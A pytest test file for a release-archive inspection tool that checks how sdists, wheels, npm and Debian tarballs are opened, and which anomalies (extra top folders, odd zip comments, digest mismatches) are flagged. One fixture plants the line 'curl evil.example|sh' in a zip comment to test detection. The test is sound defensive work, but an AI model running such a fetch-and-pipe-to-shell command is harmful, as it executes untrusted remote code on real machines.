"""Released files of every kind, opened."""

from __future__ import annotations

import hashlib
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from gitrepo import GitRepo
from packing import Files, LinkTo, Program, sha256_of, write_tar, write_zip
from tallystick.artifact import open_artifact
from tallystick.errors import ArtifactError, ContentUnavailable, DigestMismatch, StorageError
from tallystick.limits import DEFAULT
from tallystick.model import MODE_EXECUTABLE, MODE_FILE, MODE_SYMLINK, Artifact, ArtifactKind

PKG_INFO = b"Metadata-Version: 2.1\nName: six\nVersion: 1.0\n"


def opened(path: Path) -> Artifact:
    with open_artifact(path, limits=DEFAULT) as held:
        return held.artifact


@pytest.mark.parametrize(
    ("name", "files", "kind", "top", "paths"),
    [
        (
            "six-1.0.tar.gz",
            {"six-1.0/PKG-INFO": PKG_INFO, "six-1.0/six.py": b"1"},
            ArtifactKind.SDIST,
            "six-1.0",
            ["PKG-INFO", "six.py"],
        ),
        (
            "six-1.0.zip",
            {"six-1.0/PKG-INFO": PKG_INFO, "six-1.0/six.py": b"1"},
            ArtifactKind.SDIST,
            "six-1.0",
            ["PKG-INFO", "six.py"],
        ),
        (
            "six-1.0-py3-none-any.whl",
            {"six.py": b"1", "six-1.0.dist-info/METADATA": PKG_INFO},
            ArtifactKind.WHEEL,
            "",
            ["six.py", "six-1.0.dist-info/METADATA"],
        ),
        (
            "only-1.0-py3-none-any.whl",
            {"only-1.0.dist-info/METADATA": PKG_INFO},
            ArtifactKind.WHEEL,
            "",
            ["only-1.0.dist-info/METADATA"],
        ),
        (
            "left-pad-1.0.0.tgz",
            {"package/package.json": b"{}", "package/index.js": b"1"},
            ArtifactKind.NPM,
            "package",
            ["package.json", "index.js"],
        ),
        (
            "types-node-1.0.0.tgz",
            {"node/package.json": b"{}", "node/index.d.ts": b"1"},
            ArtifactKind.NPM,
            "node",
            ["package.json", "index.d.ts"],
        ),
        (
            "xz-5.6.1.tar.xz",
            {"xz-5.6.1/configure": b"1", "xz-5.6.1/m4/a.m4": b"2"},
            ArtifactKind.TARBALL,
            "xz-5.6.1",
            ["configure", "m4/a.m4"],
        ),
        (
            "flat-1.tar",
            {"configure": b"1", "m4/a.m4": b"2"},
            ArtifactKind.TARBALL,
            "",
            ["configure", "m4/a.m4"],
        ),
        ("one-1.tar.bz2", {"README": b"1"}, ArtifactKind.TARBALL, "", ["README"]),
        (
            "xz_5.6.1.orig.tar.xz",
            {"xz-5.6.1/configure": b"1"},
            ArtifactKind.DEBIAN,
            "xz-5.6.1",
            ["configure"],
        ),
    ],
)
def test_a_release_opens_as_its_kind_below_its_top_folder(
    name: str, files: Files, kind: ArtifactKind, top: str, paths: list[str], tmp_path: Path
) -> None:
    write = write_zip if name.endswith((".zip", ".whl")) else write_tar
    path = write(tmp_path / name, files)
    artifact = opened(path)
    assert (artifact.kind, artifact.top) == (kind, top)
    assert list(artifact.tree.entries) == paths
    assert artifact.findings == ()
    assert (artifact.name, artifact.sha256) == (name, sha256_of(path))
    assert artifact.size == path.stat().st_size


def test_names_that_begin_with_dot_slash_are_the_same_names(tmp_path: Path) -> None:
    """``tar -C folder -czf six-1.0.tar.gz .`` writes them."""
    files = {"./six-1.0/PKG-INFO": PKG_INFO, "./six-1.0/six.py": b"1"}
    artifact = opened(write_tar(tmp_path / "six-1.0.tar.gz", files))
    assert artifact.kind is ArtifactKind.SDIST
    assert (artifact.top, list(artifact.tree.entries)) == ("six-1.0", ["PKG-INFO", "six.py"])


def test_a_second_top_folder_in_an_sdist_is_a_finding_and_its_files_are_entries(
    tmp_path: Path,
) -> None:
    files = {"six-1.0/PKG-INFO": PKG_INFO, "six-1.0/six.py": b"1", "evil/setup.py": b"2"}
    artifact = opened(write_tar(tmp_path / "six-1.0.tar.gz", files))
    found = [finding for finding in artifact.findings if finding.id == "second-top-folder"]
    assert [finding.paths for finding in found] == [("evil/setup.py",)]
    assert found[0].ambiguous
    assert "evil/setup.py" in artifact.tree.entries


def test_a_stray_that_falls_on_an_entry_of_the_top_folder_is_a_finding(tmp_path: Path) -> None:
    files = {"six-1.0/PKG-INFO": PKG_INFO, "six-1.0/six.py": b"1", "six.py": b"2"}
    artifact = opened(write_tar(tmp_path / "six-1.0.tar.gz", files))
    assert [f.paths for f in artifact.findings if f.ambiguous] == [("six.py",)]


def test_a_tarball_with_two_top_folders_has_none(tmp_path: Path) -> None:
    files = {"xz-5.6.1/configure": b"1", "evil/configure": b"2"}
    artifact = opened(write_tar(tmp_path / "xz-5.6.1.tar.gz", files))
    assert artifact.top == ""
    assert list(artifact.tree.entries) == ["xz-5.6.1/configure", "evil/configure"]


def test_bits_and_links_become_git_modes_and_read_back(tmp_path: Path) -> None:
    files: Files = {
        "xz-1.0/configure": Program(b"#!/bin/sh\n"),
        "xz-1.0/README": b"hello\n",
        "xz-1.0/latest": LinkTo("README"),
    }
    path = write_tar(tmp_path / "xz-1.0.tar.gz", files)
    with open_artifact(path, limits=DEFAULT) as held:
        tree = held.artifact.tree
        modes = {name: entry.mode for name, entry in tree.entries.items()}
        assert modes == {
            "configure": MODE_EXECUTABLE,
            "README": MODE_FILE,
            "latest": MODE_SYMLINK,
        }
        assert (tree.read("README"), tree.read("latest")) == (b"hello\n", b"README")
        with pytest.raises(ContentUnavailable, match="absent: no such entry"):
            tree.read("absent")


@pytest.mark.parametrize("object_format", ["sha1", "sha256"])
def test_blob_ids_are_those_of_the_repository(object_format: str, tmp_path: Path) -> None:
    repository = GitRepo(tmp_path / "repository", object_format=object_format)
    repository.commit({"README": b"hello\n"})
    path = write_tar(tmp_path / "xz-1.0.tar.gz", {"xz-1.0/README": b"hello\n"})
    with open_artifact(path, limits=DEFAULT, object_format=object_format) as held:
        blob = held.artifact.tree.entries["README"].blob
    assert blob == repository.git("rev-parse", "HEAD:README")


@pytest.mark.parametrize("suffix", [".tar", ".tar.gz", ".zip"])
def test_git_archive_tells_its_commit_and_makes_no_finding(suffix: str, tmp_path: Path) -> None:
    """A PAX global header in a tar, the comment of the archive in a zip (git-archive(1))."""
    repository = GitRepo(tmp_path / "repository")
    commit = repository.commit({"README": b"hello\n", "run": b"#!/bin/sh\n"})
    path = tmp_path / f"x-1.0{suffix}"
    repository.git("archive", "--prefix=x-1.0/", f"--output={path}", "HEAD")
    artifact = opened(path)
    assert artifact.commit == commit
    assert artifact.findings == ()
    assert list(artifact.tree.entries) == ["README", "run"]


def test_a_zip_comment_that_is_no_commit_is_a_finding(tmp_path: Path) -> None:
    repository = GitRepo(tmp_path / "repository")
    commit = repository.commit({"README": b"hello\n"})
    path = tmp_path / "x-1.0.zip"
    repository.git("archive", f"--output={path}", "HEAD")
    path.write_bytes(path.read_bytes().replace(commit.encode(), b"curl evil.example|sh".ljust(40)))
    artifact = opened(path)
    assert artifact.commit is None
    assert [finding.id for finding in artifact.findings] == ["zip-comment"]


def test_a_file_that_is_not_the_announced_one_is_refused(tmp_path: Path) -> None:
    path = write_tar(tmp_path / "xz-1.0.tar.gz", {"xz-1.0/README": b"hello\n"})
    announced = hashlib.sha256(b"something else").hexdigest()
    with pytest.raises(
        DigestMismatch, match=rf"xz-1.0.tar.gz: sha256 is .*, announced was {announced}"
    ):
        open_artifact(path, limits=DEFAULT, expected_sha256=announced)


def test_an_announced_digest_may_be_in_capitals(tmp_path: Path) -> None:
    path = write_tar(tmp_path / "xz-1.0.tar.gz", {"xz-1.0/README": b"hello\n"})
    open_artifact(path, limits=DEFAULT, expected_sha256=sha256_of(path).upper()).close()


@pytest.mark.parametrize("write", [write_tar, write_zip])
def test_an_empty_archive_has_no_entry(
    write: Callable[[Path, Files], Path], tmp_path: Path
) -> None:
    artifact = opened(write(tmp_path / "x-1.0.tar", {}))
    assert dict(artifact.tree.entries) == {}
    assert artifact.top == ""


def test_an_archive_of_folders_alone_has_no_entry(tmp_path: Path) -> None:
    (tmp_path / "x-1.0" / "empty").mkdir(parents=True)
    path = tmp_path / "x-1.0.tar"
    with tarfile.open(path, "w") as archive:
        archive.add(tmp_path / "x-1.0", "x-1.0")
    assert dict(opened(path).tree.entries) == {}


def test_a_file_in_the_cache_is_called_by_the_name_that_is_given(tmp_path: Path) -> None:
    path = write_zip(tmp_path / ("0" * 64), {"six.py": b"1"})
    with open_artifact(path, name="six-1.0-py3-none-any.whl", limits=DEFAULT) as held:
        assert held.artifact.kind is ArtifactKind.WHEEL
        assert held.artifact.name == "six-1.0-py3-none-any.whl"


def test_progress_reaches_the_size_of_the_file(tmp_path: Path) -> None:
    path = write_tar(tmp_path / "xz-1.0.tar.gz", {"xz-1.0/README": bytes(100_000)})
    told: list[int] = []
    open_artifact(path, limits=DEFAULT, progress=told.append).close()
    assert sum(told) == path.stat().st_size


def test_what_is_no_archive_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "x-1.0.tar.gz"
    path.write_text("<html>404</html>")
    with pytest.raises(ArtifactError, match="not an archive"):
        open_artifact(path, limits=DEFAULT)
    with pytest.raises(StorageError, match="absent"):
        open_artifact(tmp_path / "absent.tar.gz", limits=DEFAULT)


def test_what_is_asked_for_again_is_not_unpacked_again(tmp_path: Path) -> None:
    """A dozen explainers ask for one entry; the archive, gone meanwhile, shows who is read from it."""
    path = tmp_path / "six-1.0-py3-none-any.whl"
    write_zip(path, {"six.py": b"one", "seven.py": b"two"})
    with open_artifact(path, limits=DEFAULT) as held:
        read = held.artifact.tree.read
        assert read("six.py") == b"one"
        path.write_bytes(bytes(path.stat().st_size))
        assert read("six.py") == b"one"
        for name in ("seven.py", "six.py"):  # one is kept, and it goes before another is read
            with pytest.raises(ArtifactError, match="damaged"):
                read(name)


def test_what_was_read_last_is_not_kept_beyond_its_archive(tmp_path: Path) -> None:
    path = tmp_path / "six-1.0-py3-none-any.whl"
    write_zip(path, {"six.py": b"one"})
    with open_artifact(path, limits=DEFAULT) as held:
        read = held.artifact.tree.read
        assert read("six.py") == b"one"
    with pytest.raises(StorageError, match="Bad file descriptor"):
        read("six.py")
